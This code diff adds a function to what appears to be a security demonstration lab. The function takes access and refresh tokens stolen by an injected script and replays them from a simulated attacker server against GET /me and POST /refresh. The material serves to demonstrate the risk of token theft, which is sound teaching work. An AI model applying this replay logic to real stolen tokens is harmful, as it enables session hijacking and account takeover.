@@ -2,7 +2,7 @@
  * What the collector's loot is worth to the attacker: the tokens it can replay from its own
  * server, and what the injected script did while the page was open.
  */
-import type { LootEntry } from '../attacks-client.ts';
+import { type LootEntry, type ReplayAnswer, replayFromAttacker } from '../attacks-client.ts';
 
 export interface Stolen {
   /** localStorage's access token (documents' mode). */
@@ -42,4 +42,32 @@ export function findStolen(loot: readonly LootEntry[]): Stolen {
     ridingStatus: riding.status ?? null,
     accessToken: mintedAccessToken ?? storedAccessToken,
   };
+}
+
+export interface Replayed {
+  readonly route: string;
+  readonly what: string;
+  readonly answer: ReplayAnswer;
+}
+
+/** The attacker's server uses what was stolen: the access token, then the refresh token. */
+export async function replayStolen(stolen: Stolen): Promise<Replayed[]> {
+  const results: Replayed[] = [];
+  if (stolen.accessToken !== null) {
+    const answer = await replayFromAttacker({
+      api: 'jwt',
+      route: 'GET /me',
+      bearer: stolen.accessToken,
+    });
+    results.push({ route: 'GET /me', what: 'access token', answer });
+  }
+  if (stolen.refreshToken !== null) {
+    const answer = await replayFromAttacker({
+      api: 'jwt',
+      route: 'POST /refresh',
+      refresh_token: stolen.refreshToken,
+    });
+    results.push({ route: 'POST /refresh', what: 'refresh token', answer });
+  }
+  return results;
 }
